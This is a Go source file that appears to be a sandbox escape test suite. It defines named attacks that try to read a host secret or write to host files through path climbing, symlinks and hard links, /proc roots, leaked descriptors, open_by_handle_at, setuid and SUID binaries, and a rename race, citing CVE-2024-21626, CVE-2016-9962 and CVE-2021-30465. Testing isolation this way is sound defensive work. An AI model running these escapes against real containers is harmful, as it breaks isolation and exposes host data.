//go:build linux

package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// files are attacks on the host's files.
func files() map[string]attack {
	return map[string]attack{
		"read":       func(g ground) (string, error) { return read(g.Secret) },
		"write":      func(g ground) (string, error) { return appendTo(g.Writable) },
		"create":     func(g ground) (string, error) { return appendTo(filepath.Join(g.Dir, "created")) },
		"climb":      func(g ground) (string, error) { return read("/workspace" + strings.Repeat("/..", 40) + g.Secret) },
		"link":       func(g ground) (string, error) { return readLinked(g.Secret, "/workspace/to-secret") },
		"write-link": func(g ground) (string, error) { return writeLinked(g.Writable, "/workspace/to-writable") },
		"hard-link":  hardLink,
		"root-link":  rootLink,
		"leaked":     leaked,
		"handle":     handle,
		"become-root": func(ground) (string, error) {
			unix.Setresgid(0, 0, 0)
			unix.Setresuid(0, 0, 0)
			return read("/etc/root-only")
		},
		"rootfs":       func(ground) (string, error) { return appendTo("/etc/hosts-of-the-image") },
		"suid":         gain("/bin/attacker-suid"),
		"file-caps":    gain("/bin/attacker-caps"),
		"suid-planted": gain("/workspace/attacker-suid"),
		"hidden":       func(ground) (string, error) { return read("/workspace/.glovebox/secret") },
		"swap-hidden":  swapHidden,
	}
}

func read(path string) (string, error) {
	f, err := os.Open(path)
	if err != nil {
		return "", err
	}
	defer f.Close()
	b := make([]byte, 4096)
	n, err := f.Read(b)
	return string(b[:n]), err
}

func appendTo(path string) (string, error) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o666)
	if err != nil {
		return "", err
	}
	defer f.Close()
	_, err = f.WriteString("attacked")
	return "written", err
}

func readLinked(target, link string) (string, error) {
	if err := os.Symlink(target, link); err != nil && !errors.Is(err, os.ErrExist) {
		return "", err
	}
	return read(link)
}

func writeLinked(target, link string) (string, error) {
	if err := os.Symlink(target, link); err != nil && !errors.Is(err, os.ErrExist) {
		return "", err
	}
	f, err := os.OpenFile(link, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return "", err
	}
	defer f.Close()
	_, err = f.WriteString("attacked")
	return "written", err
}

// hardLink gives the host's file a name in the workspace.
func hardLink(g ground) (string, error) {
	for _, dir := range []string{"/workspace", g.Workspace} {
		link := filepath.Join(dir, "hard-link")
		err := os.Link(g.Secret, link)
		if err != nil && dir == g.Workspace {
			return "", err
		}
		if err == nil {
			defer os.Remove(link)
			return read(link)
		}
	}
	return "", errFailed
}

// rootLink goes through the roots and directories of other processes.
func rootLink(g ground) (string, error) {
	var last error
	for _, pid := range []int{g.PID, 1, os.Getpid()} {
		for _, door := range []string{"root", "cwd/../../../../../../../.."} {
			got, err := read(fmt.Sprintf("/proc/%d/%s%s", pid, door, g.Secret))
			if err == nil {
				return got, nil
			}
			last = err
		}
	}
	return "", last
}

// leaked looks for directories of the host among the descriptors that the
// process was started with (CVE-2024-21626, CVE-2016-9962).
func leaked(g ground) (string, error) {
	if g.Leak != "" {
		if _, err := unix.Open(g.Leak, unix.O_RDONLY|unix.O_DIRECTORY, 0); err != nil {
			return "", err
		}
	}
	for fd := range 1024 {
		for _, path := range []string{filepath.Base(g.Secret), strings.Repeat("../", 40) + g.Secret} {
			secret, err := unix.Openat(fd, strings.TrimPrefix(path, "/"), unix.O_RDONLY, 0)
			if err != nil {
				continue
			}
			b := make([]byte, 4096)
			n, err := unix.Read(secret, b)
			return string(b[:max(n, 0)]), err
		}
	}
	return "", errFailed
}

// handle opens the file by what the file system calls it ("shocker").
func handle(g ground) (string, error) {
	mount, err := unix.Open("/workspace", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(g.HandleAs, g.Handle), unix.O_RDONLY)
	if err != nil {
		return "", err
	}
	b := make([]byte, 4096)
	n, err := unix.Read(fd, b)
	return string(b[:max(n, 0)]), err
}

// swapHidden moves the cover over the state away, or puts a link in its place
// that whoever mounts there next may follow (CVE-2021-30465).
func swapHidden(ground) (string, error) {
	os.Mkdir("/workspace/decoy", 0o755)
	err := unix.Renameat2(unix.AT_FDCWD, "/workspace/.glovebox", unix.AT_FDCWD, "/workspace/decoy", unix.RENAME_EXCHANGE)
	if err != nil {
		return "", err
	}
	defer unix.Renameat2(unix.AT_FDCWD, "/workspace/.glovebox", unix.AT_FDCWD, "/workspace/decoy", unix.RENAME_EXCHANGE)
	return read("/workspace/decoy/secret")
}
